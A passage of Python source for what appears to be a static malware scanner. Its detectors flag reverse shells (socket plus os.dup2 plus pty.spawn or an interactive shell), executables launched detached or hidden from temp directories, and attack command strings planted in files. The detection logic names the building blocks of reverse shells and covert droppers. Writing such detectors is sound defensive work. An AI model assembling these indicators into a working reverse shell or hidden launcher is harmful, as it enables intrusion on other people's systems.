                if isinstance(sub, ast.Call) and ctx.facts_resolve(sub.func) in _OPENERS and sub.args:
                    evidence = _line_evidence(ctx, mark.local_line, mark.node)
                    target = (self.ref(sub.args[0], scope), sub.args[0])
                    sites.append(_RunSite(mark.local_line, scope, mark.context, [target], False, evidence))
        return sites

    # -- reverse shells --------------------------------------------------------------------

    def _reverse_shell(self, sites: list[_RunSite]) -> None:
        ctx = self.ctx
        units: dict[int, dict[str, list[tuple[int, RunContext]]]] = {}

        def note(scope: Scope, what: str, line: int, context: RunContext) -> None:
            owner = scope.enclosing_function() or ctx.facts.module
            units.setdefault(id(owner), {}).setdefault(what, []).append((line, context))

        for call in ctx.facts.calls:
            name = call.name or ""
            context = ctx.context_of(call.scope)
            if name in ("socket.socket", "socket.create_connection", "socket.fromfd"):
                note(call.scope, "socket", call.line, context)
            elif name == "os.dup2" and len(call.node.args) == 2:
                note(call.scope, "dup", call.line, context)
            elif name == "pty.spawn":
                note(call.scope, "shell", call.line, context)
        if not any("socket" in unit for unit in units.values()):
            return
        for site in sites:
            if site.command is None or not site.command.runs:
                continue
            if site.command.runs[0].program.norm in _SHELLS or " -i" in site.text:
                note(site.scope, "shell", site.line, site.context)
            if "fileno" in site.evidence and re.search(r"\bstd(?:in|out|err)\s*=", site.evidence):
                note(site.scope, "dup", site.line, site.context)
        for unit in units.values():
            if "socket" in unit and "dup" in unit and "shell" in unit:
                line, context = unit["shell"][0]
                self.report(REVERSE_SHELL, line, _line_evidence(ctx, line, None), context)

    # -- temp-dir programs started detached ----------------------------------------------------

    def _detached_temp(self, sites: list[_RunSite]) -> None:
        for site in sites:
            if not site.detached:
                continue
            for ref, expr in site.targets:
                if not (self._temp(ref) or (expr is not None and self._temp_expr(expr, site.scope))):
                    continue
                if site.command is None and not _executable_name(ref):
                    continue  # os.startfile(report.pdf) opens a document
                self.report(DETACHED_TEMP_EXEC, site.line, site.evidence, site.context)
                break

    def _temp(self, ref: _Ref) -> bool:
        if ref.value and (_TEMP_VALUE.search(_norm_path(ref.value)) or _hidden(ref.value)):
            return True
        return bool(ref.value is None and ref.base and ref.base.startswith(".") and len(ref.base) > 3)

    def _temp_expr(self, node: ast.expr, scope: Scope, depth: int = 0) -> bool:
        ctx = self.ctx
        for sub in ast.walk(node):
            if isinstance(sub, ast.Call):
                name = ctx.facts_resolve(sub.func) or ""
                if name in _TEMP_CALLS or (
                    name in ("os.getenv", "os.environ.get")
                    and sub.args
                    and _temp_env(ctx.text_value(sub.args[0]))
                ):
                    return True
            elif isinstance(sub, ast.Subscript) and ctx.facts_resolve(sub.value) == "os.environ":
                if _temp_env(ctx.text_value(sub.slice)):
                    return True
            elif isinstance(sub, ast.Name) and depth < 3:
                bound = _assigned_in(scope, sub.id) or ctx.facts.binding(
                    sub.id, getattr(sub, "lineno", 1 << 30)
                )
                if bound is not None and bound is not node and self._temp_expr(bound, scope, depth + 1):
                    return True
            elif (
                isinstance(sub, ast.Constant)
                and isinstance(sub.value, str)
                and _TEMP_VALUE.search(_norm_path(sub.value))
            ):
                return True
        return False

    # -- literals not seen being run -----------------------------------------------------------

    def _literals(self, command_texts: list[str]) -> None:
        ctx = self.ctx
        written: set[int] | None = None
        for lit in self.literals:
            if lit.docstring or not _TRIGGER.search(lit.value):
                continue
            if any(lit.value in text for text in command_texts):
                continue  # analysed as the command of a process
            hits = _parse_command(lit.value).hits
            if not hits:
                continue
            if written is None:
                written = self._written_literals()
            context = ctx.context_of(lit.scope)
            planted = id(lit.node) in written and context.runs_automatically
            for kind, evidence in hits:
                if ctx.file.layer > 0 or planted:
                    how = "written to a file" if planted else "in decoded code"
                    self.report(_HIT_RULES[kind], lit.line, f"{kind} ({how}): {evidence}", context)
                else:
                    self.report(COMMAND_STRING, lit.line, f"{kind}: {evidence}", context)

    def _written_literals(self) -> set[int]:
        """Literal nodes that reach the data of a file write, directly or through names."""
        ctx = self.ctx
        nodes: set[int] = set()
        for call in ctx.facts.calls:
            if call.attr not in ("write", "writelines", "write_text", "write_bytes") or not call.node.args:
                continue
            stack: list[tuple[ast.expr, int]] = [(call.node.args[0], 0)]
            while stack:
                expr, depth = stack.pop()
                for sub in ast.walk(expr):
                    if isinstance(sub, ast.Constant):
                        nodes.add(id(sub))
                    elif isinstance(sub, ast.Name) and depth < 3:
                        bound = ctx.facts.binding(sub.id, call.line + 1)
                        if bound is not None:
                            stack.append((bound, depth + 1))
        return nodes


# ---------------------------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------------------------


def _is_extra_runner(call: CallSite) -> bool:
    name = call.name or ""
    return name in _EXTRA_RUNNERS or bool(name and _SHELL_EXECUTE.search(name))


def _python_check(ctx: PyContext, skeleton: _Skeleton) -> _PyCheck:
    class Check(_PyCheck):
        def __call__(self, word: str) -> bool:
            expr = skeleton.expr_of(word)
            return expr is not None and any(
                isinstance(sub, ast.Name | ast.Attribute)
                and ctx.facts_resolve(sub) in ("sys.executable", "sys._base_executable")
                for sub in ast.walk(expr)
            )

    return Check()


def _kwarg(call: ast.Call, name: str) -> ast.expr | None:
    for keyword in call.keywords:
        if keyword.arg == name:
            return keyword.value
    return None


def _detached_kwargs(call: ast.Call) -> bool:
    for keyword in call.keywords:
        value = keyword.value
        if keyword.arg == "start_new_session" and not (isinstance(value, ast.Constant) and not value.value):
            return True
        if keyword.arg == "creationflags" and _DETACH_FLAGS.search(ast.unparse(value)):
            return True
        if keyword.arg == "preexec_fn" and re.search(r"setsid|setpgrp|setpgid", ast.unparse(value)):
            return True
        if keyword.arg == "startupinfo" and "SW_HIDE" in ast.unparse(value):
            return True
    return False


def _spawn_detached(call: ast.Call) -> bool:
    return bool(call.args) and re.search(r"P_NOWAIT|P_DETACH", ast.unparse(call.args[0])) is not None


def _writes_mode(call: ast.Call) -> bool:
    mode: ast.expr | None = call.args[1] if len(call.args) > 1 else _kwarg(call, "mode")
    return (
        isinstance(mode, ast.Constant)
        and isinstance(mode.value, str)
        and any(c in mode.value for c in "wax+")
    )


def _assigned_in(scope: Scope, name: str) -> ast.expr | None:
    current: Scope | None = scope
    while current is not None:
        for targets, value in reversed(current.assigns):
            if name in targets:
                return value
        current = current.parent
    return None


def _word_ref(word: _Word) -> _Ref:
    text = word.text.strip("\"' ")
    if not text:
        return _Ref()
    if _PH_OPEN in text:
        tail = _basename(text)
        return _Ref(base=tail) if len(tail) >= 3 and _PH_OPEN not in tail else _Ref()
    return _Ref(value=text, base=_basename(text))


def _trailing_name(ctx: PyContext, node: ast.expr) -> str | None:
    """The file name at the end of a path expression: os.path.join(d, 'x.exe') -> 'x.exe'."""
    last: ast.expr | None = None
    if isinstance(node, ast.Call) and node.args:
        last = node.args[-1]
    elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add | ast.Div):
        last = node.right
    elif isinstance(node, ast.JoinedStr) and node.values:
        last = node.values[-1]
    value = ctx.text_value(last) if last is not None else None
    if not value:
        return None
    base = _basename(value)
    return base if len(base) >= 3 else None


def _temp_env(name: str | None) -> bool:
    return bool(name and _TEMP_ENV.match(name))


def _hidden(value: str) -> bool:
    base = _basename(value)
    return base.startswith(".") and len(base) > 2 and "/" in value.replace("\\", "/")


def _executable_name(ref: _Ref) -> bool:
    name = (ref.base or ref.value or "").lower()
    return name.endswith(_EXECUTABLE_EXT) or (bool(name) and "." not in name.lstrip("."))


def _line_evidence(ctx: PyContext, line: int, node: ast.AST | None) -> str:
    text = ctx.line_text(line).strip()
    if node is not None and (ctx.file.layer or len(text) > 160 or not text):
        return short(node)
    return text
